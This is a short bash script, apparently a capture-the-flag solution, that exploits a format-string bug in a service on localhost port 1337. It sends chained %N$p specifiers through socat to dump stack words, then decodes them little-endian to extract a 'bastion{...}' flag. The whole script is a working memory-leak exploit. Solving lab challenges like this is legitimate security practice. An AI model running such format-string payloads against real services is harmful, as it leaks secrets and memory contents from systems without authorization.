#!/bin/bash
# printf(line) with %N$p dumps stack words; the flag buffer sits in main's frame. Decode them
# (little-endian) and look for the flag.
set -euo pipefail
payload=$(python3 -c 'print("\n".join(".".join(f"%{i}$p" for i in range(j, j + 20)) for j in range(1, 81, 20)))')
printf '%s\n' "$payload" | socat -t5 - TCP:127.0.0.1:1337 | python3 -c '
import re, sys
data = b"".join(
    (0 if tok == "(nil)" else int(tok, 16)).to_bytes(8, "little")
    for tok in re.findall(r"0x[0-9a-f]+|\(nil\)", sys.stdin.read())
)
start = data.find(b"bastion{")
print(data[start : data.index(b"}", start) + 1].decode())
'
